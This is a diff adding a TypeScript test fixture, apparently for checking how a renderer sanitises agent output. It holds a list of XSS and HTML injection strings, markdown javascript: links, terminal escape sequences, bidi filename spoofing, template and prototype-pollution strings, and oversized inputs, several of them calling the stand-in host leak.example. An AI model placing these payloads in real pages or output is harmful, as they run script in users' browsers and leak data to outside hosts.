@@ -1,0 +1,48 @@
+const LEAK = "https://leak.example/x";
+
+/** What an agent may write to reach out of the text that it is. Each on one line: it goes into titles, too. */
+export const HOSTILE: readonly string[] = [
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=https://leak.example/x.js></SCRIPT>",
+  "</script><script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  `<img src="${LEAK}.png">`,
+  "<svg onload=alert(1)><script>alert(2)</script></svg>",
+  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
+  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+  `<iframe src="${LEAK}"></iframe>`,
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  `<object data="${LEAK}.swf"></object><embed src="${LEAK}.swf">`,
+  `<link rel="stylesheet" href="${LEAK}.css">`,
+  `<style>@import url("${LEAK}.css"); body { display: none }</style>`,
+  `<div style="background: url(${LEAK}.png); position: fixed; inset: 0">over everything</div>`,
+  `<base href="https://leak.example/"><meta http-equiv="refresh" content="0; url=${LEAK}">`,
+  `<form action="${LEAK}"><input name=q autofocus onfocus=alert(1)><button>Confirm</button></form>`,
+  "<details open ontoggle=alert(1)>x</details>",
+  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  "[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](&#106;avascript:alert(1))",
+  "[click](vbscript:msgbox(1)) [click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[click](java%0ascript:alert(1)) [click](\u0001javascript:alert(1)) [click](<java script:alert(1)>)",
+  `![image](${LEAK}.png) ![image][ref] [ref]: ${LEAK}.svg`,
+  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
+  `<${LEAK}> <javascript:alert(1)> www.leak.example leak@leak.example`,
+  `[https://bank.example](${LEAK}) [good](https://bank.example@leak.example/)`,
+  '[a](https://leak.example/"onmouseover="alert(1)) [b](https://leak.example/ \'x" onclick=alert(1)\')',
+  "\u001b[2J\u001b]0;owned\u0007\u001b[31mred\u001b[0m\u0000\u0008\u007f\u009b31m",
+  "\u202Eevil\u202C \u2066\u2067mirrored\u2069 \u200Fx\u061C user\u202Etxt.exe",
+  `a\uFEFF\u200B\u200C\u2060\u00AD${"e\u0301".repeat(200)}${"\u0336".repeat(500)}`,
+  `${"*".repeat(3000)}${"[".repeat(3000)}${"(".repeat(3000)}`,
+  `${"> ".repeat(400)}deep ${"- ".repeat(400)}deeper`,
+  `${"`".repeat(2001)} ${"~".repeat(2001)} ${"_a".repeat(3000)}`,
+  `|${" a |".repeat(500)}`,
+  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62; &#x0; &#xD800; &bogus;",
+  "\uD800 \uDFFF \uFFFE \uFFFF {{constructor.constructor('alert(1)')()}} <%= alert(1) %>",
+  '__proto__ constructor toString hasOwnProperty [object Object] "];alert(1)//',
+  "<!-- --><script>alert(1)</script><!-- <![CDATA[<script>alert(1)</script>]]> <?xml version='1.0'?><!DOCTYPE x>",
+  `<x${" onclick=alert(1)".repeat(300)}>`,
+];
+
+/** One line of five million characters, with something in it at the end. */
+export const ENDLESS = `${"word ".repeat(1_000_000)}<img src=x onerror=alert(1)>`;
